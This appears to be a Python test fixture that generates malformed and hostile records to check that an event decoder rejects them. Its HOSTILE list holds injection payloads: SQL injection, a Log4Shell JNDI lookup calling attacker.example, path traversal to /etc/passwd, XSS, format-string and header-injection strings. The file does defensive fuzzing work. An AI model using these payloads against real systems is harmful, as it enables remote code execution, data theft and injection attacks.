"""Malformed records: random bytes, truncated and deep JSON, wrong types, unknown types and versions,
oversized values, bad headers, hostile strings. Each is checked to be refused by `schemas.decode`."""

from __future__ import annotations

import random
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import orjson

from schemas import DecodeError, SessionContext, decode, encode_event

Headers = list[tuple[str, bytes]]

HOSTILE = [
    "'; DROP TABLE sessions; --",
    "${jndi:ldap://attacker.example/a}",
    "../../../../etc/passwd",
    "\u0000\u0001\u0002",
    "\u202egnp.exe",
    "%s%s%s%n%n",
    "<script>alert(1)</script>",
    "A" * 70_000,
    "😀" * 5_000,
    "\ufeff\u200b\u2028\u2029",
    "{{7*7}}",
    "\r\nX-Injected: 1",
]


@dataclass(frozen=True, slots=True)
class Malformed:
    kind: str
    key: bytes | None
    value: bytes
    headers: Headers


class MalformedFactory:
    """Makes malformed records of every kind, seeded, each one refused by the decoder."""

    def __init__(self, seed: int, session_keys: list[bytes]) -> None:
        self.rng = random.Random(seed)
        self.keys = session_keys or [b"junk"]
        context = SessionContext(
            session_id="junk-session", agent_name="reliability", source="reliability/junk"
        )
        good = encode_event(
            "livekit.agent.user_state_changed",
            {"old_state": "listening", "new_state": "away"},
            context,
            1,
            1.0,
        )
        self.body: dict[str, Any] = orjson.loads(good.value)
        self.good_value = good.value
        self.headers: Headers = list(good.headers)
        self.kinds: list[tuple[str, Callable[[], tuple[bytes, Headers]]]] = [
            ("random bytes", self._random_bytes),
            ("truncated JSON", self._truncated),
            ("deep JSON", self._deep),
            ("wrong types", self._wrong_type),
            ("unknown type", self._unknown_type),
            ("unknown version", self._unknown_version),
            ("missing field", self._missing_field),
            ("not an object", self._not_object),
            ("bad headers", self._bad_headers),
            ("hostile strings", self._hostile),
            ("oversized value", self._oversized),
        ]
        self.unexpected: list[str] = []
        """Decoder failures other than DecodeError (a bug: the runtime would not dead-letter them)."""

    def make(self) -> Malformed:
        """The next malformed record (kinds in turn; oversized ones rarer)."""
        while True:
            kind, build = self.rng.choice(self.kinds)
            if kind == "oversized value" and self.rng.random() > 0.02:
                continue
            value, headers = build()
            try:
                decode(value, headers)
            except DecodeError:
                key = self.rng.choice([*self.keys, None, b"\xff\xfe", b""])
                return Malformed(kind, key, value, headers)
            except Exception as exc:  # noqa: BLE001 - recorded: the decoder must only raise DecodeError
                self.unexpected.append(f"{kind}: {exc.__class__.__name__}")
                continue
            # The decoder accepted it: not malformed after all (e.g. a harmless mutation); try again.

    def _env(self, **changes: Any) -> bytes:
        body = {**self.body, **changes}
        return orjson.dumps({k: v for k, v in body.items() if v is not _DROP})

    def _random_bytes(self) -> tuple[bytes, Headers]:
        return self.rng.randbytes(self.rng.randint(0, 2048)), self._maybe_headers()

    def _truncated(self) -> tuple[bytes, Headers]:
        return self.good_value[: self.rng.randint(0, len(self.good_value) - 1)], list(self.headers)

    def _deep(self) -> tuple[bytes, Headers]:
        depth = self.rng.choice([600, 1100, 3000])
        if self.rng.random() < 0.5:
            nested = b"[" * depth + b"]" * depth
        else:
            nested = b'{"a":' * depth + b"1" + b"}" * depth
        if self.rng.random() < 0.5:
            return nested, self._maybe_headers()
        envelope = self._env(data="__DATA__").replace(b'"__DATA__"', nested)
        return envelope, list(self.headers)

    def _wrong_type(self) -> tuple[bytes, Headers]:
        field, value = self.rng.choice(
            [
                ("seq", "one"),
                ("seq", -5),
                ("seq", 1.5),
                ("seq", [1]),
                ("time", 12345),
                ("time", "yesterday"),
                ("data", [1, 2]),
                ("data", "text"),
                ("session_id", 42),
                ("session_id", {"x": 1}),
                ("type", 7),
                ("specversion", 1.0),
                ("id", None),
                ("data", {"old_state": 3, "new_state": None}),
                ("data", {"old_state": "listening", "new_state": "flying"}),
            ]
        )
        return self._env(**{field: value}), list(self.headers)

    def _unknown_type(self) -> tuple[bytes, Headers]:
        stem = self.rng.choice(["nope", "user_state_changed2", "x" * 300])
        name = f"livekit.agent.{stem}{self.rng.randint(0, 99)}"
        headers = [(k, name.encode() if k == "ce_type" else v) for k, v in self.headers]
        return self._env(type=name), headers

    def _unknown_version(self) -> tuple[bytes, Headers]:
        version = self.rng.choice(["9.0", "2.0", "1.x", "", "v1", "1", "1.0.0.0", "-1.0", "1e3"])
        headers = [(k, version.encode() if k == "ce_schemaversion" else v) for k, v in self.headers]
        return self._env(schema_version=version), headers

    def _missing_field(self) -> tuple[bytes, Headers]:
        field = self.rng.choice(["type", "id", "seq", "data", "schema_version", "time", "session_id"])
        return self._env(**{field: _DROP}), list(self.headers)

    def _not_object(self) -> tuple[bytes, Headers]:
        return self.rng.choice([b"[]", b"null", b"42", b'"text"', b"true", b"[1,2,3]", b"  "]), []

    def _bad_headers(self) -> tuple[bytes, Headers]:
        choice = self.rng.randint(0, 3)
        if choice == 0:
            headers = [(k, b"livekit.agent.close" if k == "ce_type" else v) for k, v in self.headers]
        elif choice == 1:
            headers = [(k, b"\xff\xfe\xfd" if k == "ce_type" else v) for k, v in self.headers]
        elif choice == 2:
            headers = [(k, b"3.0" if k == "ce_schemaversion" else v) for k, v in self.headers]
        else:
            headers = [(k, b"0.3" if k == "ce_specversion" else v) for k, v in self.headers]
        return self.good_value, headers

    def _hostile(self) -> tuple[bytes, Headers]:
        text = self.rng.choice(HOSTILE)
        field = self.rng.choice(["type", "schema_version", "time", "specversion"])
        if self.rng.random() < 0.2:
            # A lone surrogate, as raw JSON text (not valid UTF-8 once decoded).
            return self._env(type="__X__").replace(b"__X__", b"\\ud800\\udbff"), list(self.headers)
        return self._env(**{field: text}), list(self.headers)

    def _oversized(self) -> tuple[bytes, Headers]:
        size = self.rng.randint(200_000, 600_000)
        if self.rng.random() < 0.5:
            return self.rng.randbytes(size), []
        return self._env(type="x" * size), list(self.headers)

    def _maybe_headers(self) -> Headers:
        return list(self.headers) if self.rng.random() < 0.5 else []


class _Drop:
    pass


_DROP: Any = _Drop()
